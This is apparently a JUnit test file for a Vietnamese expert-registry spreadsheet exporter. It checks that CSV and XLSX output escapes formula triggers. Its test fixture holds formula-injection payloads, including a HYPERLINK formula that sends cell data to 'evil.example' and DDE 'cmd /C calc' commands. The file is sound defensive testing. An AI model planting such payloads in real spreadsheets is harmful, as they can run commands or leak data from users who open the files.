package vn.ngoaivu.registry.expert.sheet;

import vn.ngoaivu.registry.sheet.SheetFormat;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static vn.ngoaivu.registry.expert.sheet.SheetTestSupport.fullProfile;
import static vn.ngoaivu.registry.expert.sheet.SheetTestSupport.profile;
import static vn.ngoaivu.registry.expert.sheet.SheetTestSupport.read;
import static vn.ngoaivu.registry.expert.sheet.SheetTestSupport.write;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;

import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.dhatim.fastexcel.reader.Sheet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

import vn.ngoaivu.registry.expert.ExpertProfile;

class ExpertSheetRoundTripTest {

    /** Text a spreadsheet program could take for a formula, in every kind of column. */
    private static final ExpertProfile DANGEROUS = new ExpertProfile(
            Optional.of("=1+2"),
            "@Lê Văn Bình",
            Optional.of("-Binh Le"),
            Optional.empty(),
            Optional.empty(),
            Optional.of("'=already quoted"),
            "FR",
            Optional.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào\")"),
            Optional.of("+cmd|' /C calc'!A0"),
            Optional.of("@SUM(1+1)*cmd|' /C calc'!A0"),
            Optional.empty(),
            Optional.empty(),
            List.of(),
            List.of("=2+5", "-độc hại", "bình thường", "'plain apostrophe"),
            List.of(),
            Optional.empty(),
            Optional.empty(),
            Optional.of("+33 1 23 45 67 89"),
            Optional.empty(),
            List.of(),
            List.of(), List.of(), List.of(),
            Optional.of("=cmd|' /C notepad'!'A1'\nDòng hai"),
            Map.of());

    @ParameterizedTest
    @EnumSource(SheetFormat.class)
    void profilesSurviveAWriteAndARead(SheetFormat format) {
        List<ExpertSheetRow> rows = new ArrayList<>();
        for (int i = 1; i <= 5; i++) {
            rows.add(ExpertSheetRow.of("id-" + i, fullProfile(i)));
        }
        rows.add(ExpertSheetRow.of("id-6", profile("TH-6", "Trần Thị Đào", "VN")));
        byte[] bytes = write(format, rows);

        SheetTestSupport.Read read = read(bytes, format);

        assertTrue(read.summary().accepted(), read.summary().toString());
        assertEquals(List.of(), read.summary().fileProblems(), "the ID column is recognised and ignored");
        assertEquals(1, read.summary().headerRow());
        assertEquals(List.of(2L, 3L, 4L, 5L, 6L, 7L), read.rows().stream().map(ParsedRow::rowNumber).toList());
        read.rows().forEach(row -> assertEquals(List.of(), row.problems(), "row " + row.rowNumber()));
        assertEquals(rows.stream().map(ExpertSheetRow::profile).toList(), read.profiles());
        assertEquals(6, read.summary().validRows());
    }

    @ParameterizedTest
    @EnumSource(SheetFormat.class)
    void formulaTriggersAreEscapedAndTheReaderUndoesIt(SheetFormat format) {
        byte[] bytes = write(format, List.of(ExpertSheetRow.of("=HACK()", DANGEROUS)));

        SheetTestSupport.Read read = read(bytes, format);
        assertEquals(List.of(DANGEROUS), read.profiles(), () -> read.rows().toString());

        // Every cell of the written sheet that would start with a trigger starts with an apostrophe instead.
        List<String> cells = format == SheetFormat.CSV ? csvCells(bytes) : xlsxCells(bytes);
        List<String> dangerous = cells.stream().filter(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0)
                .toList();
        assertEquals(List.of(), dangerous);
        assertTrue(cells.contains("'=HACK()"), cells.toString());
        assertTrue(cells.contains("'=1+2"), cells.toString());
        assertTrue(cells.contains("'@Lê Văn Bình"), cells.toString());
        assertTrue(cells.contains("'-Binh Le"), cells.toString());
        assertTrue(cells.contains("''=already quoted"), cells.toString());
        assertTrue(cells.contains("'+cmd|' /C calc'!A0"), cells.toString());
        assertTrue(cells.contains("'+33 1 23 45 67 89"), cells.toString());
        assertTrue(cells.contains("'=2+5; -độc hại; bình thường; 'plain apostrophe"), cells.toString());
        assertTrue(cells.contains("'=cmd|' /C notepad'!'A1'\nDòng hai"), cells.toString());
    }

    @Test
    void csvIsUtf8WithAByteOrderMarkCommasAndRfc4180Quoting() {
        byte[] bytes = write(SheetFormat.CSV, List.of(ExpertSheetRow.of(fullProfile(1))));
        assertEquals(0xEF, bytes[0] & 0xFF);
        assertEquals(0xBB, bytes[1] & 0xFF);
        assertEquals(0xBF, bytes[2] & 0xFF);
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        assertTrue(text.startsWith("Mã hồ sơ,Họ và tên,Tên dùng ở nước ngoài,Giới tính,Năm sinh,"), text);
        assertTrue(text.contains("\r\n"), "CRLF record separators");
        assertTrue(text.contains(",Nam,1951,"), text);
        assertTrue(text.contains(",\"Xã Đông Thọ, huyện Đông Sơn\","), "a comma is quoted");
        assertTrue(text.contains(",2.2; 1.2,"), "codes joined with '; '");
        assertTrue(text.contains("\"\"ưu tiên\"\""), "quotes doubled");
        assertTrue(text.contains("\nHẹn trao đổi"), "a line break kept inside quotes");
    }

    @Test
    void xlsxHasABoldFrozenHeaderAndTheIdColumnFirstWhenTheFirstRowHasOne() throws Exception {
        byte[] bytes = write(SheetFormat.XLSX, List.of(ExpertSheetRow.of("42", fullProfile(1)),
                ExpertSheetRow.of(profile("K2", "Lê Văn Bình", "DE"))));
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(bytes))) {
            Sheet sheet = workbook.getFirstSheet();
            assertEquals(ExpertSheetWriter.SHEET_NAME, sheet.getName());
            List<Row> rows = sheet.read();
            assertEquals("ID", rows.get(0).getCellText(0));
            assertEquals("Mã hồ sơ", rows.get(0).getCellText(1));
            assertEquals("42", rows.get(1).getCellText(0));
            assertEquals("", rows.get(2).getCellText(0));
        }
        String sheetXml = zipEntry(bytes, "xl/worksheets/sheet1.xml");
        assertTrue(sheetXml.contains("state=\"frozen\""), "frozen pane");
        assertTrue(sheetXml.contains("ySplit=\"1\""), "below the header row");
        assertTrue(zipEntry(bytes, "xl/styles.xml").contains("<b/>"), "a bold font");
    }

    @Test
    void anEmptyExportIsTheHeaderRow() {
        SheetTestSupport.Read csv = read(write(SheetFormat.CSV, List.of()), SheetFormat.CSV);
        SheetTestSupport.Read xlsx = read(write(SheetFormat.XLSX, List.of()), SheetFormat.XLSX);
        for (SheetTestSupport.Read read : List.of(csv, xlsx)) {
            assertTrue(read.summary().accepted());
            assertEquals(1, read.summary().headerRow());
            assertEquals(0, read.summary().rows());
        }
    }

    private static List<String> csvCells(byte[] bytes) {
        List<String> cells = new ArrayList<>();
        try {
            vn.ngoaivu.registry.sheet.SheetFiles.read(new ByteArrayInputStream(bytes), SheetFormat.CSV, rows -> {
                for (var row = rows.next(); row != null; row = rows.next()) {
                    cells.addAll(row.cells());
                }
            }).ifPresent(problem -> {
                throw new AssertionError(problem);
            });
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return cells;
    }

    private static List<String> xlsxCells(byte[] bytes) {
        List<String> cells = new ArrayList<>();
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(bytes))) {
            for (Row row : workbook.getFirstSheet().read()) {
                row.forEach(cell -> cells.add(cell == null ? "" : cell.getText()));
            }
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return cells;
    }

    static String zipEntry(byte[] bytes, String name) throws java.io.IOException {
        java.nio.file.Path file = java.nio.file.Files.createTempFile("sheet-test-", ".xlsx");
        try {
            java.nio.file.Files.write(file, bytes);
            try (var zip = new java.util.zip.ZipFile(file.toFile())) {
                var entry = zip.getEntry(name);
                if (entry == null) {
                    throw new AssertionError("no " + name);
                }
                return new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8);
            }
        } finally {
            java.nio.file.Files.delete(file);
        }
    }
}
